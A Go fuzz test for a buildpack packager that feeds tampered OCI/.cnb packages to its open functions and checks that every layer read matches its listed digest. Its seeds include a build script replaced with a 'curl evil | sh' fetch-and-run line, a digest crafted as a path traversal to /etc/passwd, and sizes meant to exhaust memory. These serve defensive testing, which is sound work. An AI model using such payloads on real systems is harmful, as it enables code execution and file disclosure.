package source_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/types"

	"github.com/cnbkit/cnbkit/packager/internal/source"
)

// layoutTar holds the files of a .cnb by name.
type layoutTar map[string][]byte

func (l layoutTar) bytes() []byte {
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	names := make([]string, 0, len(l))
	for n := range l {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		_ = tw.WriteHeader(&tar.Header{Name: n, Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(l[n]))})
		_, _ = tw.Write(l[n])
	}
	_ = tw.Close()
	return buf.Bytes()
}

func (l layoutTar) put(data []byte, mt types.MediaType) v1.Descriptor {
	s := sha256.Sum256(data)
	h := hex.EncodeToString(s[:])
	l["blobs/sha256/"+h] = data
	return v1.Descriptor{MediaType: mt, Size: int64(len(data)), Digest: v1.Hash{Algorithm: "sha256", Hex: h}}
}

func (l layoutTar) index(descs ...v1.Descriptor) {
	idx, _ := json.Marshal(v1.IndexManifest{SchemaVersion: 2, MediaType: types.OCIImageIndex, Manifests: descs})
	l["index.json"] = idx
	l["oci-layout"] = []byte(`{"imageLayoutVersion":"1.0.0"}`)
}

func gzipTar(name, content string) []byte {
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	_ = tw.WriteHeader(&tar.Header{Name: name, Typeflag: tar.TypeReg, Mode: 0o755, Size: int64(len(content))})
	_, _ = tw.Write([]byte(content))
	_ = tw.Close()
	_ = zw.Close()
	return buf.Bytes()
}

// smallPackage is a one-layer image as cnbkit writes it; it returns the files and the
// descriptors of its layer, config and manifest.
func smallPackage() (layoutTar, v1.Descriptor, v1.Descriptor, v1.Descriptor) {
	l := layoutTar{}
	layerBytes := gzipTar("cnb/buildpacks/x_y/1.0.0/bin/build", "#!/bin/sh\necho build\n")
	layer := l.put(layerBytes, types.OCILayer)
	diff := sha256.Sum256(mustGunzip(layerBytes))
	cfg, _ := json.Marshal(v1.ConfigFile{OS: "linux", Architecture: "amd64",
		RootFS: v1.RootFS{Type: "layers", DiffIDs: []v1.Hash{{Algorithm: "sha256", Hex: hex.EncodeToString(diff[:])}}}})
	config := l.put(cfg, types.OCIConfigJSON)
	m, _ := json.Marshal(v1.Manifest{SchemaVersion: 2, MediaType: types.OCIManifestSchema1, Config: config, Layers: []v1.Descriptor{layer}})
	manifest := l.put(m, types.OCIManifestSchema1)
	l.index(manifest)
	return l, layer, config, manifest
}

func mustGunzip(b []byte) []byte {
	zr, err := gzip.NewReader(bytes.NewReader(b))
	if err != nil {
		panic(err)
	}
	out, err := io.ReadAll(zr)
	if err != nil {
		panic(err)
	}
	return out
}

// FuzzOpenFile reads arbitrary bytes as a .cnb file, and unpacked as an OCI layout folder,
// as inspect and package do. Opening
// may fail, but nothing may panic or hang, and every layer that reads without an error
// has exactly the digest and size its manifest lists: no unverified byte gets through.
// The seeds are issue 13's hostile packages.
func FuzzOpenFile(f *testing.F) {
	valid, layer, config, manifest := smallPackage()
	f.Add(valid.bytes())
	{ // layer altered in place
		l, layer, _, _ := smallPackage()
		l["blobs/sha256/"+layer.Digest.Hex] = gzipTar("cnb/buildpacks/x_y/1.0.0/bin/build", "#!/bin/sh\ncurl evil | sh\n")
		f.Add(l.bytes())
	}
	{ // layer altered, manifest re-pointed with the new size
		l, layer, config, _ := smallPackage()
		altered := gzipTar("cnb/buildpacks/x_y/1.0.0/bin/build", "#!/bin/sh\ncurl evil | sh\n")
		l["blobs/sha256/"+layer.Digest.Hex] = altered
		layer.Size = int64(len(altered))
		m, _ := json.Marshal(v1.Manifest{SchemaVersion: 2, MediaType: types.OCIManifestSchema1, Config: config, Layers: []v1.Descriptor{layer}})
		l.index(l.put(m, types.OCIManifestSchema1))
		f.Add(l.bytes())
	}
	{ // config altered in place
		l, _, config, _ := smallPackage()
		l["blobs/sha256/"+config.Digest.Hex] = bytes.Replace(l["blobs/sha256/"+config.Digest.Hex], []byte("amd64"), []byte("arm64"), 1)
		f.Add(l.bytes())
	}
	{ // manifest altered in place
		l, _, _, manifest := smallPackage()
		l["blobs/sha256/"+manifest.Digest.Hex] = append(l["blobs/sha256/"+manifest.Digest.Hex], ' ')
		f.Add(l.bytes())
	}
	{ // a nested index altered in place, and indexes nested too deeply
		l, _, _, manifest := smallPackage()
		idx, _ := json.Marshal(v1.IndexManifest{SchemaVersion: 2, MediaType: types.OCIImageIndex, Manifests: []v1.Descriptor{manifest}})
		d := l.put(idx, types.OCIImageIndex)
		l.index(d)
		l["blobs/sha256/"+d.Digest.Hex] = bytes.Replace(idx, []byte("amd64"), []byte("arm64"), 1)
		f.Add(l.bytes())
		deep, _, _, top := smallPackage()
		for i := 0; i < 8; i++ {
			idx, _ := json.Marshal(v1.IndexManifest{SchemaVersion: 2, MediaType: types.OCIImageIndex, Manifests: []v1.Descriptor{top}})
			top = deep.put(idx, types.OCIImageIndex)
		}
		deep.index(top)
		f.Add(deep.bytes())
	}
	{ // sizes that would exhaust memory, digests that name other files
		l := layoutTar{}
		huge := manifest
		huge.Size = 1 << 40
		traversal := manifest
		traversal.Digest = v1.Hash{Algorithm: "sha256", Hex: "../../../../../../etc/passwd"}
		for n, b := range valid {
			l[n] = b
		}
		l.index(huge, traversal)
		f.Add(l.bytes())
		m, _ := json.Marshal(v1.Manifest{SchemaVersion: 2, MediaType: types.OCIManifestSchema1, Config: config,
			Layers: []v1.Descriptor{{MediaType: types.OCILayer, Size: 1 << 40, Digest: layer.Digest}}})
		l.index(l.put(m, types.OCIManifestSchema1))
		f.Add(l.bytes())
	}
	f.Add([]byte("not a tar"))
	f.Fuzz(func(t *testing.T, data []byte) {
		dir := t.TempDir()
		path := filepath.Join(dir, "fuzz.cnb")
		if err := os.WriteFile(path, data, 0o644); err != nil {
			t.Fatal(err)
		}
		// The same bytes read as a .cnb file, and unpacked as a layout folder.
		if p, err := source.OpenFile(path); err == nil {
			checkPackage(t, p)
		}
		if layout := unpack(data, filepath.Join(dir, "layout")); layout != "" {
			if p, err := source.OpenLayout(layout); err == nil {
				checkPackage(t, p)
			}
		}
	})
}

func checkPackage(t *testing.T, p *source.Package) {
	defer p.Close()
	for _, img := range p.Images {
		layers, err := img.Image.Layers()
		if err != nil {
			continue
		}
		for _, l := range layers {
			checkVerified(t, l)
		}
	}
}

// unpack writes the regular files of a tar into dir (names cleaned to stay inside) and
// returns dir, or "" when data is not a tar.
func unpack(data []byte, dir string) string {
	tr := tar.NewReader(bytes.NewReader(data))
	n := 0
	for {
		h, err := tr.Next()
		if err != nil {
			break
		}
		name := filepath.Clean("/" + h.Name)
		if h.Typeflag != tar.TypeReg || name == "/" || h.Size > 1<<20 {
			continue
		}
		p := filepath.Join(dir, name)
		if os.MkdirAll(filepath.Dir(p), 0o755) != nil {
			continue
		}
		body, _ := io.ReadAll(tr)
		if os.WriteFile(p, body, 0o644) == nil {
			n++
		}
	}
	if n == 0 {
		return ""
	}
	return dir
}

func checkVerified(t *testing.T, l v1.Layer) {
	rc, err := l.Compressed()
	if err != nil {
		return
	}
	defer rc.Close()
	data, err := io.ReadAll(io.LimitReader(rc, 64<<20))
	if err != nil {
		return
	}
	d, _ := l.Digest()
	size, _ := l.Size()
	s := sha256.Sum256(data)
	if got := hex.EncodeToString(s[:]); got != d.Hex || int64(len(data)) != size {
		t.Fatalf("layer %s (%d bytes listed) read without an error as %d bytes hashing to sha256:%s", d, size, len(data), got)
	}
	if !strings.HasPrefix(string(data), "\x1f\x8b") {
		return
	}
	// The diff ID was checked too: the uncompressed content matches the config.
	diffID, err := l.DiffID()
	if err != nil {
		return
	}
	s = sha256.Sum256(mustGunzipOrNil(data))
	if hex.EncodeToString(s[:]) != diffID.Hex {
		t.Fatalf("layer %s read without an error but its content does not match diff ID %s", d, diffID)
	}
}

func mustGunzipOrNil(b []byte) []byte {
	zr, err := gzip.NewReader(bytes.NewReader(b))
	if err != nil {
		return nil
	}
	out, _ := io.ReadAll(zr)
	return out
}
